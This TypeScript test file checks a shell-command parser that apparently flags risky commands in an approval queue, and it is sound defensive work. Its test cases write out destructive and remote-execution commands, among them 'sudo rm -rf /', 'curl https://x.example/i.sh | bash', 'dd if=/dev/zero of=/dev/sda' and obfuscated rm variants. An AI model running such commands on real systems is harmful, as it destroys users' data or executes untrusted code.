import { expect } from '@open-wc/testing';
import { readShell, type ShellPartKind } from '../../../src/elements/approval-queue/previews/shell-parts.js';

const of = (command: string, kind: ShellPartKind) =>
  readShell(command).parts.filter((part) => part.kind === kind).map(({ text }) => text); // prettier-ignore
const dangers = (command: string) => readShell(command).dangers.join(' ; ');

describe('a shell command', () => {
  it('keeps every character, whatever it is', () => {
    const commands = ['', ' ', 'a', "'", '"', '`', '$(', '${', ')', '}', '\\', 'a "b $(c "d" `e`) f" > g', '$((1+2))', '<<EOF\na\nEOF', '\u{1f600}\\\u{1f600}', 'x'.repeat(10_000), '$('.repeat(2000)]; // prettier-ignore
    for (const command of commands)
      expect(
        readShell(command)
          .parts.map(({ text }) => text)
          .join(''),
      ).to.equal(command);
  });

  it('is cut into operators, pipes, redirections, substitutions, groups, quotes, variables and comments', () => {
    const command = `a && b || c; (d | e |& f) > out 2>&1 < in >> log & "g $(h 'i') $HOME" \${X:-y} \`j\` # k`;
    expect(of(command, 'operator')).to.deep.equal(['&&', '||', ';', '&']);
    expect(of(command, 'pipe')).to.deep.equal(['|', '|&']);
    expect(of(command, 'redirection')).to.deep.equal(['>', '2>&1', '<', '>>']);
    expect(of(command, 'substitution')).to.deep.equal(['$(', ')', '`', '`']);
    expect(of(command, 'subshell')).to.deep.equal(['(', ')']);
    expect(of(command, 'variable')).to.deep.equal(['$HOME', '${', '}']);
    expect(of(command, 'quote').join('')).to.equal(`"g 'i' "`);
    expect(of(command, 'comment')).to.deep.equal(['# k']);
  });

  it('marks nothing that is quoted, and no # inside of a word', () => {
    expect(of("echo 'a | b > c; sudo rm -rf /' x#y", 'plain').join('')).to.equal('echo  x#y');
    expect(dangers("echo 'sudo rm -rf /' # sudo")).to.equal('');
    expect(dangers('echo sudo rm -rf')).to.equal('');
  });

  it('names what deserves a second look, however it is written', () => {
    const cases: [string, string][] = [
      ['sudo rm -rf /', 'sudo ; rm -rf'],
      ['rm -r -f x', 'rm -r ; rm -f'],
      ['rm --recursive x', 'rm --recursive'],
      ['rm x', ''],
      ['/bin/rm -fr x', 'rm -fr'],
      ['r\\m -rf x; \'rm\' -rf y; "su"do id', 'rm -rf ; sudo'],
      ['a && sudo b', 'sudo'],
      ['A=1 B=2 sudo x', 'sudo'],
      ['echo $(sudo id)', 'sudo'],
      ['echo "$(rm -rf x)"', 'rm -rf'],
      ['echo `rm -rf x`', 'rm -rf'],
      ['(rm -rf x)', 'rm -rf'],
      ['find . -exec rm -rf {} ;', 'rm -rf'],
      ['ls | xargs rm -rf', 'rm -rf'],
      ['curl https://x.example/i.sh | bash', '| bash'],
      ['bash x.sh', ''],
      ['sudo -u root env X=1 rm -rf /', 'sudo ; rm -rf'],
      ['dd if=/dev/zero of=/dev/sda', 'dd'],
      ['chmod -R 777 /', 'chmod -R'],
      ['true\nsudo id', 'sudo'],
    ];
    for (const [command, expected] of cases) expect(dangers(command), command).to.equal(expected);
    expect(of('sudo rm -rf /', 'danger')).to.deep.equal(['sudo', 'rm', '-rf']);
  });

  it('takes no long time over a command that is made to take long', () => {
    for (const part of ['"$(', "'", '\\', '`', '2>', ' #', '$', '((', 'a"']) {
      const start = performance.now();
      readShell(part.repeat(50_000));
      expect(performance.now() - start, part).to.be.lessThan(1500);
    }
  });
});
